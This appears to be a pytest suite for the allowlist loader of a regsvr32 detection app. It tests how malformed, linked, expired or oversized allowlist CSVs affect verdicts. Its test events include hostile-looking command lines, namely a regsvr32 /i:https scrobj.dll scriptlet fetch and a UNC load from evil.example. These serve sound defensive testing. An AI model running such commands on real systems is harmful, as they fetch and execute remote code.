"""Allowlist inputs that could change a verdict without a word (the loader's reliability), each
through the real protocol: the command, a lookup in a copy of the app, and the job inspector's
messages."""
import calendar
import datetime
import os
import random
import time

import pytest

from support.allowlists import HEADER, allowlist_row
from support.edr_shapes import convert
from regsvr32_detector import RULES_BY_ID
from regsvr32_detector.allowlist import Allowlist, Entry, Glob
from regsvr32_detector.allowlist_columns import COLUMNS
from test_command import run_in, score

LOCAL = "regsvr32_allowlist_local.csv"
WARN = "regsvr32detect allowlist "


def public_dll(host, module="C:\\Users\\Public\\x.dll"):
    """regsvr32 registering a DLL from a user-writable folder: R32-007 among others."""
    return {"EventCode": "1", "Image": "C:\\Windows\\System32\\regsvr32.exe",
            "CommandLine": "regsvr32 /s " + module, "ParentImage": "C:\\Windows\\explorer.exe",
            "Computer": host, "User": "CORP\\bob"}


def write(app, name, text):
    path = app / "lookups" / name
    path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
    return path


def rules(row):
    value = row["regsvr32_rules"]
    return value if isinstance(value, list) else [value] if value else []


def warnings(result):
    assert all(w.startswith(WARN) for w in result.texts("WARN")), result.texts("WARN")
    return [w[len(WARN):] for w in result.texts("WARN")]


# --- a cell in a column the loader does not read ---------------------------------------------------
# (header, row, the event the row must not clear, [(line, words) warned])
UNREAD = {
    "unknown_name": ("rule_id,module,computer,reason", "R32-007,C:\\Users\\Public\\*,WS1,build box only",
                     public_dll("WS2"), [(1, "column 3 'computer' is not a known column (did you mean "
                                              "'host'?)"),
                                         (2, "a value in column 3 'computer', which is not a known "
                                             "column (did you mean 'host'?); row skipped")]),
    "plural": ("rule_id,modules,host,reason", "R32-007,C:\\Users\\Public\\build\\*,WS2,build dir",
               public_dll("WS2"), [(1, "column 2 'modules' is not a known column (did you mean "
                                       "'module'?)"), (2, "column 2 'modules'")]),
    "spaced": ("rule_id,Module Path,host,reason", "R32-007,C:\\Users\\Public\\build\\*,WS2,build dir",
               public_dll("WS2"), [(1, "'Module Path' is not a known column (did you mean 'module'?)"),
                                   (2, "column 2 'Module Path'")]),
    "duplicate_differs": ("rule_id,module,host,reason,module", "R32-007,,WS2,r,C:\\Users\\Public\\build\\*",
                          public_dll("WS2"), [(1, "column 'module' appears more than once (columns 2 and 5)"),
                                              (2, "column 'module' has two values")]),
    "duplicate_differs_other_way": ("rule_id,module,host,reason,module", "R32-007,C:\\Users\\Public\\build\\*,"
                                    "WS2,r,C:\\Users\\*", public_dll("WS2"),
                                    [(1, "appears more than once"), (2, "has two values")]),
    # Invisible characters in a name are not part of it: the column is read.
    "zero_width": ("rule_id,\u200bmodule,host,reason", "R32-007,C:\\Users\\Public\\build\\*,WS2,build dir",
                   public_dll("WS2"), []),
    "bom_inside": ("rule_id,host,\ufeffModule ,reason", "R32-007,WS2,C:\\Users\\Public\\build\\*,build dir",
                   public_dll("WS2"), []),
    "direction_mark": ("rule_id,host,module\u200e,reason", "R32-007,WS2,C:\\Users\\Public\\build\\*,b",
                       public_dll("WS2"), []),
}


@pytest.mark.parametrize("case", sorted(UNREAD))
def test_a_cell_the_loader_does_not_read_never_widens_its_row(app_copy, case):
    header, row, event, expected = UNREAD[case]
    write(app_copy, LOCAL, header + "\n" + row + "\n")
    result = run_in(app_copy, [], [[event, dict(event, Computer="WS1")]])
    assert result.returncode == 0 and len(result.rows) == 2
    assert ["R32-007" in rules(r) for r in result.rows] == [True, True], [r["regsvr32_allowlisted"]
                                                                        for r in result.rows]
    got = warnings(result)
    assert len(got) == len(expected), got
    for text, (line, words) in zip(got, expected):
        assert text.startswith("%s:%d: " % (LOCAL, line)) and words in text, (text, words)


@pytest.mark.parametrize("header", ["rule_id,\u200bmodule,host,reason", "rule_id,module,host,reason,module"])
def test_a_row_the_loader_reads_whole_still_applies(app_copy, header):
    row = "R32-007,C:\\Users\\Public\\build\\*,WS2,build dir" + (",C:\\Users\\Public\\build\\*"
                                                                if header.endswith("module") else "")
    write(app_copy, LOCAL, header + "\n" + row + "\n" + "R32-007,,WS9,never read,x\n" * header.endswith("module"))
    event = public_dll("WS2", "C:\\Users\\Public\\build\\x.dll")
    result = run_in(app_copy, [], [[event]])
    assert "R32-007" not in rules(result.rows[0])
    assert "R32-007 allowlisted: build dir (%s:2)" % LOCAL in result.rows[0]["regsvr32_allowlisted"]


def test_rows_without_a_value_in_an_unknown_column_apply(app_copy):
    write(app_copy, LOCAL, "rule_id,module,computer,reason\nR32-007,C:\\Users\\Public\\*,,public drop\n")
    result = run_in(app_copy, [], [[public_dll("WS2")]])
    assert "R32-007" not in rules(result.rows[0])
    (warning,) = warnings(result)
    assert warning.startswith(LOCAL + ":1: column 3 'computer' is not a known column")


# --- an unclosed quote in any column -------------------------------------------------------------
CLEARS_WS1 = allowlist_row(rule_id="R32-007", module="C:\\Users\\Public\\*", host="WS1", reason="kiosk",
                           source="CHG-1")
OTHER = allowlist_row(rule_id="R32-006", image="*\\regsvr32.exe", parent_image="*\\msiexec.exe",
                      reason="packaging", source="CHG-2")


@pytest.mark.parametrize(("column", "open_quote"), [
    ("reason", lambda row: row.replace(",packaging,", ',"packaging,')),
    ("source", lambda row: row.replace(",CHG-2,", ',"CHG-2,')),
    (COLUMNS[-1], lambda row: row.rstrip("\n") + '"2027-01-01\n'),     # the last column
    ("rule_id", lambda row: '"' + row),
])
def test_an_unclosed_quote_in_any_column_names_the_lines_it_swallowed(app_copy, column, open_quote):
    write(app_copy, LOCAL, HEADER + open_quote(OTHER) + OTHER.replace("CHG-2", "CHG-3") + CLEARS_WS1)
    result = run_in(app_copy, [], [[public_dll("WS1")]])
    (warning,) = warnings(result)
    assert warning.startswith("%s:2: the value of '%s' runs from line 2 to line 4: is a closing quote "
                              "missing?; row skipped" % (LOCAL, column)), warning
    assert "R32-007" in rules(result.rows[0])      # the swallowed row does not apply, and says so


# --- a cell over the csv module's field limit (10 MB under splunklib) ------------------------------
@pytest.mark.parametrize("size", [10 * 1024 * 1024 + 1, 11 * 1024 * 1024])
def test_text_inside_a_huge_cell_never_becomes_a_row(app_copy, size):
    smuggled = allowlist_row(rule_id="R32-007", module="C:\\Users\\Public\\*", reason="smuggled")
    huge = allowlist_row(rule_id="R32-006", image="x", reason="r", source="y" * size + "\n" + smuggled)
    write(app_copy, LOCAL, HEADER + huge + CLEARS_WS1)
    result = run_in(app_copy, [], [[public_dll("WS2"), public_dll("WS1")]])
    assert [("R32-007" in rules(r)) for r in result.rows] == [True, False]
    assert not any("smuggled" in str(r["regsvr32_allowlisted"]) for r in result.rows)
    (warning,) = warnings(result)
    assert warning.startswith("%s:2: the value of 'source' runs from line 2 to line 4" % LOCAL), warning[:300]
    assert "kiosk (%s:5)" % LOCAL in result.rows[1]["regsvr32_allowlisted"]


def test_a_huge_cell_on_one_line_is_reported_and_the_next_row_applies(app_copy):
    huge = allowlist_row(rule_id="R32-006", image="x", reason="r", source="y" * (10 * 1024 * 1024 + 5))
    write(app_copy, LOCAL, HEADER + huge + CLEARS_WS1)
    result = run_in(app_copy, [], [[public_dll("WS1")]])
    (warning,) = warnings(result)
    assert warning.startswith("%s:2: a value is longer than 4096 characters; row skipped" % LOCAL), warning
    assert "R32-007" not in rules(result.rows[0])


# --- the local list as a link out of lookups/ --------------------------------------------------
@pytest.mark.parametrize("target", ["outside.csv", "gone.csv"])        # gone.csv: a dangling link
def test_a_local_list_linked_out_of_lookups_is_skipped_unless_named(app_copy, tmp_path, target):
    (tmp_path / "outside.csv").write_text(HEADER + CLEARS_WS1)
    os.symlink(str(tmp_path / target), str(app_copy / "lookups" / LOCAL))
    write(app_copy, "team.csv", HEADER + CLEARS_WS1.replace("kiosk", "team list"))
    # The defaults (as every correlation search uses them): the search runs, the link is named.
    result = run_in(app_copy, ["mode=filter"], [[public_dll("WS1"), public_dll("WS2")]])
    assert result.returncode == 0 and [r["Computer"] for r in result.rows] == ["WS1", "WS2"]
    assert "R32-007" in rules(result.rows[0])           # the linked list's row does not apply
    (warning,) = result.texts("WARN")
    assert warning == ("regsvr32detect allowlist %s: not read, it is a link that resolves outside this "
                       "app's lookups folder; its rows do not apply: put the file itself in %s"
                       % (LOCAL, app_copy / "lookups"))
    # The other lists still apply.
    result = run_in(app_copy, ["allowlists=team,regsvr32_allowlist_local"], [[public_dll("WS1")]])
    assert any("resolves outside this app's lookups folder" in e for e in result.texts("ERROR"))
    assert result.replies == [] and result.returncode != 0     # named by the search: refused
    result = run_in(app_copy, ["allowlists=team"], [[public_dll("WS1")]])
    assert "team list" in str(result.rows[0]["regsvr32_allowlisted"])


# --- which lists were read, and one left in a user's private lookups -----------------------------
def info(result):
    (text,) = result.texts("INFO")
    return text


def test_the_job_inspector_says_which_lists_were_read_and_from_where(app_copy):
    write(app_copy, LOCAL, HEADER + CLEARS_WS1 + OTHER)
    result = run_in(app_copy, [], [[public_dll("WS1")]])
    assert info(result).startswith("regsvr32detect allowlists read from %s: regsvr32_allowlist_default.csv "
                                   "(" % (app_copy / "lookups"))
    assert "), %s (2 rows), in " % LOCAL in info(result)
    os.remove(str(app_copy / "lookups" / LOCAL))
    result = run_in(app_copy, [], [[public_dll("WS1")]])
    assert info(result).endswith(" s; not present: %s" % LOCAL) and result.alerts == []


@pytest.mark.parametrize("users", [["alice"], ["alice", "bob"]])
def test_a_list_left_in_a_users_private_lookups_is_named_and_how_to_share_it_said(app_copy, tmp_path, users):
    # Settings > Lookups puts an upload in etc/users/<user>/<app>/lookups until it is shared.
    etc = tmp_path / "etc"
    (etc / "apps").mkdir(parents=True)
    app = etc / "apps" / app_copy.name
    os.rename(str(app_copy), str(app))
    for user in users:
        folder = etc / "users" / user / app.name / "lookups"
        folder.mkdir(parents=True)
        (folder / LOCAL).write_text(HEADER + CLEARS_WS1)
    (etc / "users" / "carol" / app.name / "lookups").mkdir(parents=True)
    result = run_in(app, [], [[public_dll("WS1")]])
    assert "R32-007" in rules(result.rows[0])
    (warning,) = result.texts("WARN")
    assert warning.startswith("regsvr32detect allowlist %s is not in this app's lookups folder but in the "
                              "private lookups of user 'alice' (%s)" % (
                                  LOCAL, etc / "users" / "alice" / app.name / "lookups" / LOCAL))
    assert ("user 'bob'" in warning) == ("bob" in users) and "carol" not in warning
    assert "and is not read" in warning and "Permissions, 'This app only' or 'All apps'" in warning


# --- names and rule ids that match nothing -------------------------------------------------------
@pytest.mark.parametrize("rule_id", ["R33-*", "r33-00?", "X*"])
def test_a_wildcard_rule_id_that_matches_no_rule_is_reported(app_copy, rule_id):
    write(app_copy, LOCAL, HEADER + allowlist_row(rule_id=rule_id, module="C:\\Users\\Public\\*", reason="typo")
          + CLEARS_WS1)
    result = run_in(app_copy, [], [[public_dll("WS1")]])
    (warning,) = warnings(result)
    ids = sorted(RULES_BY_ID)
    assert warning == "%s:2: rule_id %r matches no rule (the rules are %s to %s); row skipped" % (
        LOCAL, rule_id, ids[0], ids[-1])
    assert "kiosk (%s:3)" % LOCAL in result.rows[0]["regsvr32_allowlisted"]


@pytest.mark.parametrize("name", ["mylist.csv.gz", "mylist.gz", "places.kmz"])
def test_a_compressed_or_non_csv_lookup_is_named_as_written(app_copy, name):
    write(app_copy, name, b"\x1f\x8b\x08\x00not read")
    write(app_copy, "team.csv", HEADER + CLEARS_WS1)
    result = run_in(app_copy, ["allowlists=%s,team" % name], [[public_dll("WS1")]])
    (warning,) = result.texts("WARN")
    assert warning == ("regsvr32detect allowlist %s: not read, only uncompressed CSV lookups can be "
                       "allowlists; its rows do not apply" % name)
    assert "kiosk (team.csv:2)" in result.rows[0]["regsvr32_allowlisted"]


# --- expiry: the event's UTC day, else the search's UTC day; never the machine's local date ------
def _epoch(text):
    return "%d.000" % calendar.timegm(time.strptime(text, "%Y-%m-%dT%H:%M:%S"))


ZONES = ["UTC", "Pacific/Kiritimati", "Etc/GMT+12", "America/Los_Angeles"]    # +14, -12, -8/-7
# (the event's _time, whether a row that expires on 2026-03-10 still applies)
TIMES = [(_epoch("2026-03-10T23:30:00"), True), (_epoch("2026-03-11T00:30:00"), False),
         ("2026-03-10T20:00:00.000-0500", False), ("2026-03-11T01:00:00.000+0200", True),
         (_epoch("2026-03-10T00:00:00"), True), (_epoch("2001-01-01T12:00:00"), True),
         ("2026-03-11T00:00:00Z", False)]


def _in_zone(zone):
    return dict(os.environ, TZ=zone)


@pytest.mark.parametrize("zone", ZONES)
def test_expiry_is_judged_on_the_events_utc_day_in_every_time_zone(app_copy, zone):
    write(app_copy, LOCAL, HEADER + CLEARS_WS1.replace(",,\n", "2026-03-10,,\n"))
    # The same event on several days, twice each: a verdict remembered for one day is not another's.
    events = [dict(public_dll("WS1"), _time=t, n=str(i)) for i, (t, _) in enumerate(TIMES + TIMES)]
    result = run_in(app_copy, [], [events[:5], events[5:]], env=_in_zone(zone))
    assert [r["n"] for r in result.rows] == [e["n"] for e in events]
    assert [("R32-007" not in rules(r)) for r in result.rows] == [a for _, a in TIMES + TIMES]


@pytest.mark.parametrize("zone", ZONES)
@pytest.mark.parametrize("_time", [None, "", "soon", "nan", "2026-03-10T23:30:00", "1e400"])
def test_an_event_without_a_usable_time_is_judged_on_the_searchs_utc_day(app_copy, zone, _time):
    today = datetime.datetime.now(datetime.timezone.utc).date()
    rows = [CLEARS_WS1.replace("kiosk", "until today").rstrip("\n") + str(today) + "\n",
            allowlist_row(rule_id="R32-006", module="C:\\Users\\Public\\*", host="WS1", reason="ended",
                          expires=str(today - datetime.timedelta(days=1)))]
    write(app_copy, LOCAL, HEADER + "".join(rows))
    event = public_dll("WS1") if _time is None else dict(public_dll("WS1"), _time=_time)
    result = run_in(app_copy, [], [[event]], env=_in_zone(zone))
    if datetime.datetime.now(datetime.timezone.utc).date() != today:
        pytest.skip("ran across midnight UTC")
    assert "R32-007" not in rules(result.rows[0]) and "R32-006" in rules(result.rows[0])


# --- url_host on a connection with both a host name and an IP ------------------------------------
def sysmon3(host="cdn.vendor.example", ip="151.101.0.133"):
    event = {"EventCode": "3", "Image": "C:\\Windows\\System32\\regsvr32.exe", "Computer": "WS1",
             "User": "CORP\\bob", "Initiated": "true", "DestinationIp": ip, "DestinationPort": "443"}
    if host:
        event["DestinationHostname"] = host
    return event


def defender3(host="cdn.vendor.example", ip="151.101.0.133"):
    event = convert("defender", sysmon3(None, ip))
    event["RemoteUrl"] = host
    return event


@pytest.mark.parametrize("shape", [sysmon3, defender3])
@pytest.mark.parametrize(("cell", "host", "ip", "cleared"), [
    ("cdn.vendor.example", "cdn.vendor.example", "151.101.0.133", True),     # the host name
    ("*.vendor.example", "CDN.Vendor.Example", "151.101.0.133", True),
    ("151.101.0.133", "cdn.vendor.example", "151.101.0.133", True),          # or the IP
    ("151.101.*", "cdn.vendor.example", "151.101.0.133", True),
    ("cdn.vendor.example", "evil.example", "151.101.0.133", False),          # neither
    ("151.101.0.133", "cdn.vendor.example", "151.101.0.134", False),
    ("*.vendor.example", "cdn.vendor.example.evil.example", "104.20.208.21", False),
])
def test_url_host_clears_a_connection_whose_host_name_or_ip_matches(app_copy, shape, cell, host, ip, cleared):
    write(app_copy, LOCAL, HEADER + allowlist_row(rule_id="R32-021", url_host=cell, reason="vendor CDN"))
    event = shape(host, ip)
    plain = run_in(app_copy, ["allowlists=regsvr32_allowlist_default"], [[event]])
    assert "R32-021" in rules(plain.rows[0])                          # a public connection: flagged
    result = run_in(app_copy, [], [[event]])
    assert ("R32-021" not in rules(result.rows[0])) == cleared, result.rows[0]["regsvr32_reasons"]
    assert ("vendor CDN (%s:2)" % LOCAL in str(result.rows[0]["regsvr32_allowlisted"])) == cleared


def test_each_host_of_a_command_line_must_still_match(app_copy):
    # Names of one peer are alternatives; distinct hosts are not: an allowed one gives no cover.
    write(app_copy, LOCAL, HEADER + allowlist_row(rule_id="*", url_host="good.example", reason="vendor"))
    line = "regsvr32 /s /u /i:https://good.example/a.sct scrobj.dll"
    result = run_in(app_copy, [], [[dict(public_dll("WS1"), CommandLine=line),
                                    dict(public_dll("WS1"), CommandLine=line.replace(
                                        "/i:", "\\\\evil.example\\s\\x.dll /i:"))]])
    assert [bool(rules(r)) for r in result.rows] == [False, True]


# --- long lists: the index (rows filed under their rarest literal, substrings read by step) ------
@pytest.mark.parametrize("few", [0, Allowlist.FEW])     # slices looked up, or searched for
@pytest.mark.parametrize("seed", range(3))
def test_substring_index_agrees_with_a_full_scan(monkeypatch, seed, few):
    # Literals of every length (1 to 24 characters: every step, and texts shorter than a slice),
    # at every place in a value: the rows found are the rows a scan of every row finds.
    monkeypatch.setattr(Allowlist, "FEW", few)
    rnd = random.Random(seed)
    alphabet = "abcdef-\\ 0123"
    words = ["".join(rnd.choice(alphabet) for _ in range(rnd.choice([2, 3, 5, 6, 8, 11, 12, 16, 24]))) for _ in range(300)]
    entries = []
    for line in range(2, 400):
        parts = rnd.sample(words, rnd.randint(1, 2))
        cell = rnd.choice(["*", "", "?"]) + "*".join(parts) + rnd.choice(["*", "", "?*"])
        other = rnd.choice([(), (("host", Glob(rnd.choice(["ws1", "ws2", "ws*"]))),)])
        entries.append(Entry(Glob("r32-006"), (("command_line", Glob(cell)),) + other, "r", "", None,
                             "x.csv", line))
    allowlist = Allowlist(entries)
    found = 0
    for _ in range(400):
        value = "".join(rnd.choice(words + [rnd.choice(alphabet)]) for _ in range(rnd.randint(1, 5)))
        facts = {"command_line": (value,), "host": (rnd.choice(["ws1", "ws2", "ws3"]),)}
        want = next((e for e in entries if e.matches(facts)), None)
        got = allowlist.suppress(["R32-006"], facts, datetime.date(2026, 1, 1)).get("R32-006")
        assert got is want, (value, want and want.line, got and got.line)
        found += want is not None
    assert 40 < found < 360


def _site(i):
    rnd = random.Random(i)
    return "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(8))


def _literal_rows(n):
    return [Entry(Glob("r32-006"), (("command_line", Glob("*--deploy-site %s *" % _site(i))),), "site %d" % i,
                  "", None, "x.csv", i + 2) for i in range(n)]


@pytest.mark.parametrize("n", [256, 5000])
def test_a_long_line_reads_a_slice_every_few_characters_whatever_the_rows(n):
    # Timing-free: how many slices of a 32 KB line the look-up reads (bench_allowlist.py --only
    # literal measures the time). One per character per row, or per character, cost 10 ms or more.
    allowlist = Allowlist(_literal_rows(n))
    line = "regsvr32 /s x.dll " + "--deploy-site pending " * (32 * 1024 // 22)
    read = []

    class Counted(str):
        def __getitem__(self, key):
            read.append(key)
            return str.__getitem__(self, key)

        def __contains__(self, part):
            read.extend([part] * (len(self) // 64))     # a search reads it all: count its share
            return str.__contains__(self, part)

    examined = allowlist.candidates(["R32-006"], {"command_line": (Counted(line),)})
    assert len(read) <= len(line) // 2, len(read)     # a slice every few characters
    assert len(examined) <= 16, len(examined)       # rows sharing a slice with the line, checked in full
    hit = {"command_line": (line + "--deploy-site %s " % _site(123),)}
    assert [e.line for e in allowlist.candidates(["R32-006"], hit) if e.matches(hit)] == [125]


def test_a_large_list_is_said_in_the_job_inspector(app_copy):
    rows = "".join(allowlist_row(rule_id="R32-006", image="*\\regsvr32.exe", host="ws-%06d" % i,
                                 reason="build box %d" % i) for i in range(50000))
    write(app_copy, LOCAL, HEADER + rows + CLEARS_WS1)
    result = run_in(app_copy, [], [[public_dll("WS1"), public_dll("ws-000042")]])
    (warning,) = result.texts("WARN")
    assert warning.startswith("regsvr32detect allowlist %s is large: 50001 rows, read in full at the start "
                              "of every search on every indexer (all lists took " % LOCAL), warning
    assert "), %s (50001 rows), in " % LOCAL in info(result)
    assert "kiosk (%s:50002)" % LOCAL in result.rows[0]["regsvr32_allowlisted"]
    assert "build box 42 (%s:44)" % LOCAL in result.rows[1]["regsvr32_allowlisted"]
